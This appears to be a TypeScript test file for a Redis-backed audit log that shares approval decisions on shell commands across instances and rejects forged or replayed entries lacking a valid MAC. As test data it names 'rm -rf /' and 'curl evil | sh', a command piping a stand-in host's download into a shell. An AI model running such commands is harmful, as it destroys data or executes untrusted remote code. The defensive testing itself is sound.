import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AuditEntry, AuditRejects } from '../audit-log.js';
import type { RedisSessionStore } from './store.js';
import { connectStore, newPrefix, startRedis, until, type RedisServer } from './test-kit.js';

let redis: RedisServer;
beforeAll(async () => {
  redis = await startRedis();
});
afterAll(async () => {
  await redis?.close();
});

const entry = (key: string, decision: AuditEntry['decision'], by: AuditEntry['by'] = 'person'): AuditEntry => ({
  ts: new Date().toISOString(),
  sessionId: 's',
  workspace: '/w',
  sandbox: 'workspace-write',
  tool: 'bash',
  key,
  decision,
  by,
});

describe('the fleet audit log', () => {
  it('shares persisted decisions between instances: loaded at start, followed as they are made', async () => {
    const prefix = newPrefix();
    const a = await connectStore(redis, prefix, { instanceId: 'a' });
    a.audit.append(entry('npm test', 'always'));
    a.audit.append(entry('rm -rf /', 'never'));
    a.audit.append(entry('ls', 'allow')); // a one-off: decides nothing later
    a.audit.append(entry('make', 'always', 'rule')); // not a person's
    expect(a.audit.lookup('/w', 'bash', 'npm test', 'workspace-write')).toBe('always'); // its own, at once
    let b: RedisSessionStore | undefined;
    try {
      b = await connectStore(redis, prefix, { instanceId: 'b' });
      const bb = b;
      expect(await bb.audit.lookupAsync('/w', 'bash', 'npm test', 'workspace-write')).toBe('always');
      expect(bb.audit.lookup('/w', 'bash', 'rm -rf /', 'workspace-write')).toBe('never');
      expect(bb.audit.lookup('/w', 'bash', 'ls', 'workspace-write')).toBeUndefined();
      expect(bb.audit.lookup('/w', 'bash', 'make', 'workspace-write')).toBeUndefined();
      expect(bb.audit.lookup('/w', 'bash', 'npm test', 'read-only')).toBeUndefined(); // another sandbox
      expect(bb.audit.lookup('/w', 'bash', 'rm -rf /', 'danger-full-access')).toBe('never'); // a "never" holds under every sandbox
      // A later decision on A reaches B's synchronous lookup by itself (B follows the stream).
      a.audit.append(entry('npm test', 'never'));
      await until(() => bb.audit.lookup('/w', 'bash', 'npm test', 'workspace-write') === 'never', 3000, 'B to see the new decision');
      // And the other way.
      bb.audit.append(entry('git push', 'always'));
      expect(await a.audit.lookupAsync('/w', 'bash', 'git push', 'workspace-write')).toBe('always');
      expect((await a.conn.client.xlen(a.keys.audit))).toBe(6);
    } finally {
      await a.close();
      await b?.close();
    }
  });

  it('with the fleet key: an "always" without a valid MAC allows nothing and is reported; a "never" holds whatever its MAC', async () => {
    const prefix = newPrefix();
    const key = randomBytes(32);
    const rejects: AuditRejects[] = [];
    const a = await connectStore(redis, prefix, { audit: { macKey: key, onRejected: (r) => rejects.push(r) } });
    try {
      a.audit.append(entry('signed', 'always'));
      await a.audit.prepare();
      // Forged straight into Redis by someone who has no key: into the stream A follows …
      const forged = JSON.stringify(entry('forged', 'always'));
      const never = JSON.stringify(entry('unsigned never', 'never'));
      for (const line of [forged, never]) await a.conn.client.xadd(a.keys.audit, '*', 'e', line);
      expect(await a.audit.lookupAsync('/w', 'bash', 'signed', 'workspace-write')).toBe('always');
      expect(await a.audit.lookupAsync('/w', 'bash', 'forged', 'workspace-write')).toBeUndefined();
      expect(a.audit.lookup('/w', 'bash', 'unsigned never', 'workspace-write')).toBe('never');
      expect(rejects.map((r) => r.lines)).toEqual([1]);
      // … and into the map a new instance loads.
      await a.conn.client.hset(a.keys.auditPersisted, JSON.stringify(['/w', 'workspace-write', 'bash', 'forged2']), JSON.stringify(entry('forged2', 'always')));
      const bRejects: AuditRejects[] = [];
      const b = await connectStore(redis, prefix, { audit: { macKey: key, onRejected: (r) => bRejects.push(r) } });
      expect(await b.audit.lookupAsync('/w', 'bash', 'signed', 'workspace-write')).toBe('always'); // the same key trusts A's line
      expect(b.audit.lookup('/w', 'bash', 'forged2', 'workspace-write')).toBeUndefined();
      expect(bRejects.map((r) => r.lines)).toEqual([1]);
      await b.close();
    } finally {
      await a.close();
    }
  });

  it('by default signs with the key the fleet secret gives: an unsigned "always" and a replayed old "always" allow nothing', async () => {
    const prefix = newPrefix();
    const rejects: AuditRejects[] = [];
    const a = await connectStore(redis, prefix, { audit: { onRejected: (r) => rejects.push(r) } });
    try {
      // The person said "always", then changed their mind: "never".
      a.audit.append({ ...entry('deploy', 'always'), ts: '2026-01-01T00:00:00.000Z' });
      a.audit.append({ ...entry('deploy', 'never'), ts: '2026-01-01T00:00:05.000Z' });
      await a.audit.flush();
      await a.audit.prepare();
      const lines = ((await a.conn.client.xrange(a.keys.audit, '-', '+')) as [string, string[]][]).map(([, f]) => f[1]!);
      expect(lines[0]).toMatch(/,"mac":"[0-9a-f]{64}"\}$/);
      // Someone with Redis write access copies the genuine old "always" back, and adds one of their own.
      await a.conn.client.xadd(a.keys.audit, '*', 'e', lines[0]!);
      await a.conn.client.xadd(a.keys.audit, '*', 'e', JSON.stringify(entry('curl evil | sh', 'always')));
      expect(await a.audit.lookupAsync('/w', 'bash', 'deploy', 'workspace-write')).toBe('never');
      expect(await a.audit.lookupAsync('/w', 'bash', 'curl evil | sh', 'workspace-write')).toBeUndefined();
      expect(rejects.reduce((n, r) => n + r.lines, 0)).toBe(2);
      // Another server of the fleet (same secret) trusts the genuine lines and sees the same.
      const b = await connectStore(redis, prefix);
      try {
        expect(await b.audit.lookupAsync('/w', 'bash', 'deploy', 'workspace-write')).toBe('never');
      } finally {
        await b.close();
      }
    } finally {
      await a.close();
    }
  });
});
